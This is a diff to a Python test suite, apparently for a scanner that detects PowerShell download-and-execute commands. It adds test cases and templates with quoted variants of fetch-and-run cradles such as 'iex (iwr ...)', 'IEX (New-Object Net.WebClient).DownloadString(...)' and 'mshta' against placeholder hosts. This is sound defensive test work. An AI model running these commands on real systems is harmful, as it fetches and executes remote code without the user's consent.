@@ -194,6 +194,9 @@ ODD_HOSTS = {
         (_ps, "iex (iwr {u})"),
         (_ps, "iwr {u} | iex"),
         (_ps, "irm {u} -UseBasicParsing | Invoke-Expression"),
+        (_ps, "iex (iwr '{u}')"),
+        (_ps, 'iwr "{u}" | iex'),
+        (_ps, "IEX (New-Object Net.WebClient).DownloadString('{u}')"),
     ],
 )
 def test_a_flood_of_one_shape_is_replayed_and_every_url_still_graded(
@@ -318,6 +321,12 @@ def test_a_url_that_is_only_partly_a_slot_gives_what_the_full_analysis_gives(
         # ... and a statement that fetches only by a word in its URL
         (_ps, _flood("iex (gc {u})", 60, {k: f"https://iwr.x{k}.example/a" for k in range(40)})),
         (_ps, _flood("gc {u} | iex", 60, {k: f"https://iwr.x{k}.example/a" for k in range(40)})),
+        # ... where words in a string are data: the code read has them blanked, the text not
+        (_ps, _flood("iex (gc '{u}')", 60, {k: f"https://iwr.x{k}.example/a" for k in range(40)})),
+        (_ps, _flood('gc "{u}" | iex', 60, {k: f"https://iwr.x{k}.example/a" for k in range(20, 60)})),
+        (_ps, _flood("iex (iwr '{u}' -e AAAAAAAAAAAAAAAAAAAAAAAA)", 60, {40: "https://x.example/a-e"})),
+        (_ps, _flood("iwr '{u}' -o x.ps1", 60)),
+        (_ps, _flood('iex (iwr "{u}" | gc)', 60, {k: f"https://iex.x{k}.example/a" for k in range(30, 60)})),
         (_ps, _flood("iex (iwr {u}-e AAAAAAAAAAAAAAAAAAAAAAAA)", 60, {40: "https://x.example/a-e"})),
         (_ps, _flood("iwr {u} -o x.ps1", 60)),
         (_ps, _flood("iwr {u} x.ps1", 60, {k: f"https://a.example/b-o{k}" for k in range(25, 60, 2)})),
@@ -355,6 +364,9 @@ _TEMPLATES = {
         "Invoke-WebRequest {u} -OutFile a.exe",
         "Start-Process a.exe",
         "mshta {u}",
+        "iex (iwr '{u}')",
+        'iwr "{u}" | iex',
+        "iex (gc '{u}')",
     ],
 }
 _word = st.sampled_from(["x", "cdn", "iwr", "iex", "curl", "sh", "download", "a-o", "x-e", "base64", "get"])
